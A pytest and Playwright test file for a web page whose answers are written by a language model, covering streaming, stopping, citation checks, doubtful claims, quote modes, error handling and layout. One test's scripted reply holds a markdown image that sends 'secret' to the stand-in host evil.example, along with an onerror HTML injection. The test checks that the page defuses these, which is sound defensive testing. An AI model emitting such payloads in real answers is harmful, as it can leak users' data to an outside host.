"""Answers that a language model writes, on the page: words as they come, stop, marks, doubt, mode, and failing."""

import re
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import TimeoutError as TooLate
from playwright.sync_api import expect

from tests.browser.conftest import OpenDesk
from tests.browser.desk import ANSWER_MS, QUICK_MS, Desk, scrolls_sideways
from tests.browser.serving import serve
from tests.model_server import Failure, ModelServer, model_server
from tests.small_model import NAME

WAITING = "Why is the council waiting?"
TRUE = "The council hopes for a grant from the capital, which is paid only for work that has not begun [1]."
FALSE = "The lighthouse has 63 submarines [1][77]."


@pytest.fixture(scope="module")
def running() -> Iterator[ModelServer]:
    with model_server() as running:
        yield running


@pytest.fixture
def model(running: ModelServer) -> ModelServer:
    """A model that says one true and one false thing; tests change what it says."""
    running.reply = f"{TRUE} {FALSE}"
    running.held.set()
    return running


@pytest.fixture(scope="module")
def written(library: Path, running: ModelServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    log = tmp_path_factory.mktemp("writing") / "log"
    with serve(library, log, DATELINE_MODEL_URL=f"{running.address}/v1", DATELINE_MODEL="scripted") as address:
        yield address


def test_a_written_answer_says_who_wrote_it_and_what_was_checked(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    turn = open_desk(at=written).ask(WAITING)

    expect(turn.locator(".lead")).to_contain_text("Written by scripted")
    expect(turn.locator(".foot")).to_contain_text(
        "1 of 2 supported: names, numbers and dates compared, meaning judged by a model"
    )
    expect(turn.locator(".foot")).to_contain_text("1 mark that led nowhere was removed")


def test_what_no_article_carries_is_told_apart(open_desk: OpenDesk, written: str, model: ModelServer) -> None:
    turn = open_desk(at=written).ask(WAITING)

    doubtful = turn.locator(".doubtful")
    expect(doubtful).to_have_count(1)
    expect(doubtful).to_contain_text("63 submarines")
    expect(doubtful).to_contain_text("not found in the articles")
    assert "dotted" in doubtful.locator(".words").evaluate("node => getComputedStyle(node).textDecorationStyle")
    assert doubtful.locator(".mark").count() == 0


def test_a_mark_of_a_written_answer_opens_the_article_at_the_exact_words(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    turn = desk.ask(WAITING)

    desk.open_first_mark(turn)

    expect(desk.chosen.first).to_contain_text("hopes for a grant from the capital", timeout=QUICK_MS)


def test_words_appear_as_they_come_and_stop_keeps_them(open_desk: OpenDesk, written: str, model: ModelServer) -> None:
    desk = open_desk(at=written)
    model.reply = f"{TRUE} {FALSE} And then"
    model.held.clear()
    desk.box.fill(WAITING)
    desk.box.press("Enter")

    words = desk.turns.last.locator(".draft")
    expect(words).to_have_text("The counc", timeout=ANSWER_MS)
    desk.page.get_by_role("button", name="Stop", exact=True).click()

    turn = desk.answered(WAITING)
    expect(turn).to_contain_text("stopped before its end")
    expect(turn).to_contain_text("The counc …")
    expect(turn.locator(".draft")).to_have_count(0)
    model.held.set()


def test_while_an_answer_is_on_its_way_the_button_stops_it_unless_the_next_question_is_typed(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    model.held.clear()
    desk.box.fill(WAITING)
    desk.box.press("Enter")
    expect(desk.page.get_by_role("button", name="Stop", exact=True)).to_be_enabled(timeout=ANSWER_MS)

    desk.box.fill("And?")

    expect(desk.page.get_by_role("button", name="Send", exact=True)).to_be_enabled()
    expect(desk.page.get_by_role("button", name="Stop", exact=True)).to_have_count(0)
    desk.box.fill("")
    expect(desk.page.get_by_role("button", name="Stop", exact=True)).to_be_enabled()
    model.held.set()
    desk.answered(WAITING)
    expect(desk.page.get_by_role("button", name="Stop", exact=True)).to_have_count(0)


def test_a_growing_answer_leaves_the_turns_before_it_alone(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    desk.ask(WAITING)
    model.held.clear()
    first = desk.turns.first.element_handle()
    desk.box.fill("Who puts a lantern in the window?")
    desk.box.press("Enter")
    expect(desk.turns.last.locator(".draft")).not_to_be_empty(timeout=ANSWER_MS)

    model.held.set()

    desk.answered("Who puts a lantern in the window?")
    assert desk.turns.first.element_handle().evaluate("(now, before) => now === before || now.isConnected", first)


def test_the_mode_is_chosen_beside_what_is_searched(open_desk: OpenDesk, written: str, model: ModelServer) -> None:
    desk = open_desk(at=written)
    desk.page.get_by_role("button", name="Written by scripted").click()
    expect(desk.page.get_by_text("scripted runs on this machine")).to_be_visible()

    desk.page.locator("label").filter(has_text=re.compile(r"^Quoted$")).click()
    expect(desk.page.get_by_text("Nothing leaves this machine")).to_be_visible(timeout=QUICK_MS)
    desk.page.keyboard.press("Escape")

    turn = desk.ask(WAITING)
    expect(turn.locator("q.words").first).to_contain_text("hopes for a grant")
    assert turn.locator(".prose").count() == 0


def choose_quotes(desk: Desk) -> None:
    desk.page.get_by_role("button", name="Written by scripted").click()
    desk.page.locator("label").filter(has_text="Quotes chosen by scripted").click()
    expect(desk.page.get_by_text("It chooses; the words are the articles' own.")).to_be_visible(timeout=QUICK_MS)
    desk.page.keyboard.press("Escape")


def test_a_model_chooses_quotes_or_refuses_and_the_page_says_who_decided(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    model.reply = '{"sentences": [1]}'
    desk = open_desk(at=written)
    choose_quotes(desk)

    chosen = desk.ask(WAITING)
    expect(chosen.locator("q.words").first).to_be_visible()
    expect(chosen.locator(".foot")).to_contain_text("chosen by scripted")

    model.reply = '{"sentences": []}'
    refused = desk.ask("Who puts a lantern in the window?")
    expect(refused.locator(".lead")).to_contain_text("scripted found no answer in these")


def test_a_choice_is_stopped_and_the_next_question_is_answered(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    choose_quotes(desk)
    model.reply = '{"sentences": [1]}'
    model.held.clear()
    desk.box.fill(WAITING)
    desk.box.press("Enter")
    desk.page.get_by_role("button", name="Stop", exact=True).click(timeout=ANSWER_MS)

    turn = desk.answered(WAITING)
    expect(turn.locator(".lead")).to_contain_text("Stopped before scripted had chosen")

    model.held.set()
    expect(desk.ask("Who puts a lantern in the window?").locator("q.words").first).to_be_visible()


def test_where_a_model_fails_to_choose_the_quoted_answer_is_one_click_away(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    choose_quotes(desk)
    model.reply = Failure(401, "no key")

    desk.ask(WAITING).get_by_role("button", name="Take the quoted answer instead").click()

    expect(desk.turns.last.locator("q.words").first).to_contain_text("hopes for a grant", timeout=ANSWER_MS)


def test_a_model_that_fails_says_so_and_the_quoted_answer_is_one_click_away(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    desk = open_desk(at=written)
    model.reply = Failure(401, "Incorrect API key provided: sk-verysecret-0123456789")
    turn = desk.ask(WAITING)
    expect(turn.locator(".answer.error")).to_contain_text("Set DATELINE_MODEL_KEY")
    assert "sk-very" not in desk.page.content()

    turn.get_by_role("button", name="Take the quoted answer instead").click()

    expect(desk.turns).to_have_count(2, timeout=ANSWER_MS)
    quoted = desk.answered(WAITING)
    expect(quoted.locator("q.words").first).to_contain_text("hopes for a grant")


def test_what_a_model_makes_of_markdown_is_neither_picture_nor_link(
    open_desk: OpenDesk, written: str, model: ModelServer
) -> None:
    model.reply = (
        f"{TRUE} ![p](https://evil.example/p.png?q=secret) [click](https://evil.example/) <img src=x onerror=1>"
    )

    turn = open_desk(at=written).ask(WAITING)

    assert turn.locator("img, a").count() == 0
    assert "evil.example" not in turn.inner_text()


def test_a_written_answer_is_there_again_after_a_reload(open_desk: OpenDesk, written: str, model: ModelServer) -> None:
    desk = open_desk(at=written)
    desk.ask(WAITING)
    desk.page.wait_for_url("**conversation=*")

    desk.page.reload()

    turn = desk.answered(WAITING)
    expect(turn.locator(".doubtful")).to_contain_text("63 submarines")
    expect(turn.locator(".lead")).to_contain_text("Written by scripted")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_on_a_narrow_page_a_written_answer_needs_no_scrolling_sideways(
    open_desk: OpenDesk, written: str, model: ModelServer, scheme: str
) -> None:
    desk = open_desk(at=written, width=320, height=700, scheme=scheme)

    desk.ask(WAITING)

    assert not scrolls_sideways(desk.page)


@pytest.fixture(scope="module")
def small(library: Path, small_model: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page whose answers a real model of 135 million parameters writes."""
    log = tmp_path_factory.mktemp("small") / "log"
    more = {"DATELINE_MODEL_URL": f"{small_model}/v1", "DATELINE_MODEL": NAME, "DATELINE_MODEL_BUDGET_TOKENS": "300"}
    with serve(library, log, **more) as address:
        yield address


def test_a_real_model_writes_and_whatever_it_says_is_checked(open_desk: OpenDesk, small: str) -> None:
    turn = open_desk(at=small).ask(WAITING)

    assert turn.locator(".answer").get_attribute("class") in ("answer answer", "answer closest"), turn.inner_text()
    expect(turn).to_contain_text(NAME)
    for statement in turn.locator(".prose .statement").all():
        assert (statement.locator(".mark").count() > 0) != (statement.locator(".doubt").count() > 0)


def stopped(desk: Desk, question: str) -> bool:
    """Ask and stop at once; return whether it was stopped before the model had ended, which may be quicker."""
    desk.box.fill(question)
    desk.box.press("Enter")
    with suppress(TooLate):
        desk.page.get_by_role("button", name="Stop", exact=True).click(timeout=QUICK_MS)
    return "stopped" in desk.answered(question).inner_text().casefold()


def test_a_real_model_is_stopped_while_it_writes_and_the_quoted_way_is_taken_instead(
    open_desk: OpenDesk, small: str
) -> None:
    desk = open_desk(at=small)
    questions = (WAITING, "Who puts a lantern in the window?", "Where does the lantern stand until then?")
    assert any(stopped(desk, question) for question in questions)

    desk.page.get_by_role("button", name=f"Written by {NAME}").click()
    desk.page.locator("label").filter(has_text=re.compile(r"^Quoted$")).click()
    expect(desk.page.get_by_text("Nothing leaves this machine")).to_be_visible(timeout=QUICK_MS)
    desk.page.keyboard.press("Escape")

    quoted = desk.ask("What does the council hope for?")
    assert quoted.locator(".prose").count() == 0
    expect(quoted).not_to_contain_text(NAME)
